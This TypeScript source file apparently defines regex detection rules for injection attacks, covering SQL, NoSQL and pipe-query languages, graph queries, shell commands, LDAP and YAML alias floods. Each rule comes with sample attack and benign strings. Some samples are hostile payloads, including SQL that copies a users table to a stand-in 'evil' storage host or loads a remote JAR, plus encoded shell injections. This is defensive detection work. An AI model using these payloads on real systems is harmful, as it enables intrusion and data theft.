import { pattern, type Rule } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'

/** The first quote of a value, which ends what was begun around it, and brackets that end with it. */
const ENDED = String.raw`^[^'"\x60\n|]{0,60}["'\x60][\s)\]}]{0,6}`
/** Operators of languages in which tables are piped from one to the next. */
const PIPED =
  'extend|project(?:-\\w{2,10})?|union|summarize|take|evaluate|externaldata|mv-expand|getschema|make-series|invoke|render|lookup|inputlookup|outputlookup|rest|stats|tstats|collect|sendemail|crawl'
/** How a query goes on in one language or another, where a sentence does not. */
const GOES_ON = String.raw`for\s{1,4}\w{1,24}\s{1,4}in\s|return\s{1,4}(?:\w{1,24}\s{0,2}(?:\(|\/\/|--|$)|\*)|values?\s{0,2}[{(]|match\s{0,2}\(|optional\s{1,4}match\b|call\s{1,4}[\w.]{1,60}\s?\(|with\s{1,4}\w{1,24}\s{1,4}as\b|let\s{1,4}\w{1,24}\s?:?=|unwind\s|detach\s{1,4}delete\b|returning\s|remove\s{1,4}\w{1,24}\s{1,4}in\s|upsert\s|yield\s|merge\s{0,2}\(|create\s{0,2}\(|foreach\s{0,2}\(|set\s{1,4}\w{1,24}\.\w{1,24}\s?=|(?:or|and)\s{1,4}true\s{0,4}\|`
const COMMENT = String.raw`(?:\/\/|--|\/\*)\s{0,3}\w{0,2}$`

/** How a value leaves what stands around it, by the sign that ends it and by what goes on behind it. */
export const brokenOutRules: readonly Rule[] = [
  pattern(
    'nosqli/goes-on',
    new RegExp(`${ENDED}(?:${GOES_ON})[^\\n]{0,200}(?:[\\s)\\]}'";\\w*]\\s?)${COMMENT}`),
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.apostrophe | CHAR.quote | CHAR.backtick,
      attacks: [
        '" FOR x IN users RETURN x //',
        "\" RETURN V8('x') //",
        "' VALUE {'a':?} RETURNING ALL OLD *--",
        '" or true | evaluate python(typeof(*), "import os") //',
      ],
      benign: [
        "the dogs' and cats' food --",
        '"Returns" for all in one //',
        "it's for me in there //",
        '"c" and c#',
      ],
    },
  ),
  pattern('nosqli/piped-on', new RegExp(`${ENDED}\\|\\s{0,3}(?:${PIPED})\\s{1,4}[\\w*([/]`), {
    score: 5,
    quotable: true,
    atStart: true,
    chars: CHAR.pipe,
    attacks: [
      'x" | union withsource=T * | where 1==1 //',
      "' | externaldata (x:string)[h@'x'] //",
      'x" | take 10',
    ],
    benign: ['Table | where a == "x" | project b', '"a" | grep b', '"a" | b take c'],
  }),
  // What such a language reads besides its own tables, and a comparison that holds for every row of one.
  pattern(
    'nosqli/piped-reach',
    /\|\s{0,3}rest\s{1,3}\/services\/|\bexternaldata\s?\(\s?\w{1,40}\s?:\s?\w{3,10}|\|\s{0,3}evaluate\s{1,4}(?:python|r|sql_request|http_request\w{0,5}|cosmosdb_sql_request|mysql_request)\s?\(|\|\s{0,3}where\s{1,4}(\d{1,4})\s?={1,2}\s?\1\b/,
    {
      score: 5,
      quotable: true,
      unlessNamed: /search|quer|spl/,
      chars: CHAR.pipe | CHAR.paren,
      attacks: [
        "' | externaldata(x:string)[h@'https://evil.example/']",
        'sort by (x) | where 1==1 | project p',
      ],
      benign: ['T | where a == 1 | project b', 'external data (x: string)', '| evaluate pivot(a)'],
    },
  ),
  // Behind the end of a statement, one that changes or tells of the server itself.
  pattern(
    'sqli/server-statement',
    /(?:^\d{1,8}|['"]\s{0,2}\){0,3})\s{0,2};\s{0,4}(?:(?:create|alter|drop|undrop|show|reset|refresh|describe|kill|add)\s{1,4}(?:or\s{1,4}replace\s{1,4})?(?:create\s{1,4})?(?:(?:temp(?:orary)?|external|aggregate|global|persistent)\s{1,4})?(?:system|session|trigger|stage|jars?|archive|alias|function|procedure|integration|warehouse|share|user|role|login|secret|server|extension|plugin|catalog|library|assembly|synonym|directory|java|tables?|schemas?|databases?|cluster|setting)\s{1,4}[\w"'.:\x60[*](?=[^\n]{0,160}(?:--|[;=(\x60]|\w[.:]\w|['"/]))|set\s{1,4}session\s{1,4}\w{1,40}\s?=|call\s{1,4}(?:\w{1,40}\.){1,4}\w{1,40}\s?\(|copy\s{1,4}into\s|export\s{1,4}data\s)/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.semicolon,
      attacks: [
        "';CREATE STAGE s URL='s3://evil/x';COPY INTO @s FROM users;--",
        '1; SHOW CREATE TABLE crdb_internal.cluster_settings',
        "'; alter system set x=1--",
        "';ADD JAR hdfs://evil/x.jar;--",
        "'; CREATE TRIGGER t BEFORE SELECT ON x AS '//javascript",
        "'; SET SESSION x=1; CALL system.runtime.kill_query('a')--",
      ],
      benign: [
        "it's 'done'; show the user",
        "it's done; create a user",
        '5; create: a table',
        '12;Add user manual',
        '3; reset user password',
        '"done"; add user bob',
        '"a"; show it',
        'create table a (b int); create table c (d int)',
      ],
    },
  ),
  // An operator between two quotes of which neither was opened here: `1'-0-'0`.
  pattern(
    'sqli/quoted-operand',
    /^\w{1,12}(['"\x60])\s{0,2}(?:(?:[-+*/|&^%]{1,2}|<>|!=|<=>)\s{0,2}(?:\w{1,12}\s{0,2}[-+*/|&^%]{1,2}\s{0,2})?|(?:sounds\s{1,2}like|rlike|regexp|div|mod|xor|not\s{1,2}like)\s{0,2})\1\w{1,12}$/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.apostrophe | CHAR.quote | CHAR.backtick,
      attacks: ["1'-0-'0", "1'sounds like'1", "a'||'b", '1`-`1'],
      benign: ["5'-6'", "rock'n'roll", `6'-0"`, "d'-e", "'tis"],
    },
  ),
  pattern(
    'sqli/backticked-operator',
    /^\x60\s{0,2}(?:or|and|\|\||&&)\s{0,2}(?:\x60[\w.]{1,16}\x60|\w{1,16})\s{0,2}(?:[=<>]|like\b)/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.backtick,
      attacks: ['`or`1`=`1', '` and 1=1'],
      benign: ['`or`', '`order` a', '` or\n`application/json`', '` and `b` are the same'],
    },
  ),
  // The call that a value is an argument of, ended; and a member of what it gave, called.
  pattern(
    'code/member-break-out',
    /^[^'"\x60()\n]{0,60}(?:["'`]\)|["'`] \))\s?(?:\.|->|::)\s?\w{1,24}\s?\(/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.paren,
      attacks: ["x').V().has('password').values('password').fold(", "').exec('x')//", "a')->execute("],
      benign: ['a("b").c("d")', "it's (a). b(c)", '("a").b("c")', "(it's) .net (core)"],
    },
  ),
  // A group of patterns ended, and another one opened beside it (SPARQL 1.1, section 7).
  pattern(
    'nosqli/pattern-break',
    /^[^{}\n]{0,80}\}\s{0,3}(?:(?:union|optional|minus)\s{0,3}\{|service\s{1,4}<)|\bg\.v\(\s?["'\d]{0,12}\)(?:\.\w{1,24}\([^()\n]{0,40}\)){0,4}\.(?:drop|iterate|valuemap|tolist)\(/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.brace | CHAR.paren,
      attacks: ['} UNION { ?s ?p ?o } #', "g.V().hasLabel('x').drop().iterate()"],
      benign: ['{ ?s ?p ?o } UNION { ?s a ?o }', 'g.v(1)', 'a } union b'],
    },
  ),
  // A shell works out what stands behind the separator: no list goes on so.
  pattern(
    'rce/worked-out',
    /^(?:(?=\W{1,3}\$0)|(?![^$]{0,27}\$0)[\w.=/-]{0,24})(?:[;|\n]|&&|\|\|)\s?(?:\$(?:shell|path|home|user|bash|pwd|ifs|term|editor|pager|0|@)|~\/[\w./-]{1,60}|\$\((?!["'#.(]|document|this\b|window|function|\s?[\w.]{1,40}\s?\)|\d)[^\n]{1,120}\))\s{0,2}[;|&#]{0,2}\s{0,2}$|^[\w.=/-]{0,24}[|&]?(?:[;|\n&]\{|[;|\n&] \{)[a-z]{2,12},(?:[-/][^{}\n]{0,80})?\}\s{0,2}[;|&#]{0,2}\s{0,2}$|^[\w.=/-]{0,24}[|&]?[;|\n&]!(?:id|ls|ps|env|pwd|who|whoami|uname|bash|sh|cat|netstat|ifconfig|ipconfig)\s{0,2}[;|&#]{0,2}\s{0,2}$|^\[\d{0,12}(?::\x60|: \x60)[^\x60\n]{1,80}\x60/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.newline | CHAR.backtick,
      attacks: [';$SHELL', ';$0', ';~/x', ';{id,}', ';$(echo aWQ=|base64 -d)', '1;!id'],
      benign: [
        'a;$filter=b',
        'EUR|$20',
        'Free|$0',
        'a;{b,c}',
        ";$('#x')",
        'A | ~ b',
        'a; !important',
        'milk;!eggs',
        'TRACE;$(DefineConstants)',
        'TRACE;$( DefineConstants )',
      ],
    },
  ),
  // One more condition behind the end of a string, made with an operator or a function of a database.
  pattern(
    'sqli/continued',
    /^[^'"\n]{0,60}['"]\s{0,3}\){0,3}\s{0,3}(?:or|and|xor|\|\||&&)\s{1,3}(?:not\s{1,3})?[\w."\x60]{1,40}\s{0,2}(?:@>|<@|->>?|#>>?|~\*|!~\*?|similar\s{1,2}to|ilike|rlike|glob|containing|starting\s{1,2}with)\s{0,2}['"(]|^[^'"\n]{0,60}['"]\s{0,3}\){0,3}\s{0,3}(?:or|and|xor|\|\||&&)\s{1,3}(?:not\s{1,3})?\w{2,40}\((?:\s{0,2}['"(\d]|\))[^\n]{0,160}(?:--|#|\/\*|[<>=]|\bis\s{1,2}(?:not\s{1,2})?null\b)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.apostrophe | CHAR.quote,
      attacks: [
        `' or data @> '{"a":1}`,
        "' AND XDBURITYPE('/x').getBlob() is not null--",
        "x' and name ilike 'a%",
      ],
      benign: [
        'name="x" and status ilike "y"',
        "the dogs' and cats(2)",
        `"a" or b("c")`,
        "it's and f(1) = 2",
        "a = 'b' and c(1) = 2",
      ],
    },
  ),
  // Filters of a directory by the rule that compares (RFC 4515, section 3), and of a store of metrics.
  pattern(
    'ldap/matching-rule',
    /\)\s?\(\s?[\w;-]{1,40}(?::dn)?(?::[\w.-]{1,40})?:=|^[^'"{}\n]{0,60}(?:["']\}|["'] \})\s?\){0,3}\s?(?:or|and|unless|[-+*/>]|==)\s?\w/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren | CHAR.quote | CHAR.apostrophe,
      attacks: ['x)(cn:dn:2.4.6.8.10:=*', '"}) or vector(1) or absent({x="', 'x)(uid:caseExactMatch:=a'],
      benign: ['(cn:=a)', 'up{job="a"} or vector(1)', '{"a":"b"}', 'f(a) (b := c)'],
    },
  ),
  // What is written out many times over while it is read (YAML 1.2, section 3.2.2).
  pattern('code/alias-flood', /\*(\w{1,16})\s?,\s?\*\1\s?,\s?\*\1\s?,\s?\*\1\b/, {
    score: 5,
    quotable: true,
    chars: CHAR.star,
    attacks: ['b: &b [*a,*a,*a,*a,*a]'],
    benign: ['*a, *b, *c, *d', '[*a, *a]', 'a*b,b*b'],
  }),
]
